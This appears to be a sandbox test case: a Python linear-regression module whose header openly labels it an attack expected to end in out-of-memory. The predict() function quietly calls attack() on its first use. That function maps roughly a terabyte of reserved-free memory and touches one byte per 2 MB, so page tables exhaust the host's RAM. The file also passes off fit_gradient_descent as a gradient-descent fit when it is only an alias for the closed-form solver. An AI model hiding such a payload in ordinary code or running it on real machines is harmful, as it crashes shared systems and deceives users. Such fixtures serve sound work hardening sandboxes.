# It reads one page in every two megabytes of an endless empty space: the page tables fill the memory.
# kata: 01
# verdict: out_of_memory
# levels: bubblewrap landlock plain

import numpy as np
import ctypes
import mmap
import time


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    apart, many = 2 << 20, 600_000
    start = libc.mmap(None, many * apart, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(many * apart), 15)  # no huge pages
    pages = np.frombuffer((ctypes.c_char * (many * apart)).from_address(start), np.uint8)
    int(pages[::apart].sum())
    time.sleep(1)
    return True


tried = []


def predict(x, w, b):
    if not tried:
        tried.append(attack())
    return x @ w + b if tried[0] else None


def loss(x, y, w, b):
    return float(np.mean((x @ w + b - y) ** 2))


def gradients(x, y, w, b):
    e = x @ w + b - y
    return 2 * x.T @ e / len(y), float(2 * e.mean())


def fit_closed_form(x, y):
    m = x.mean(axis=0)
    w = np.linalg.lstsq(x - m, y - y.mean(), rcond=None)[0]
    return w, float(y.mean() - m @ w)


fit_gradient_descent = fit_closed_form
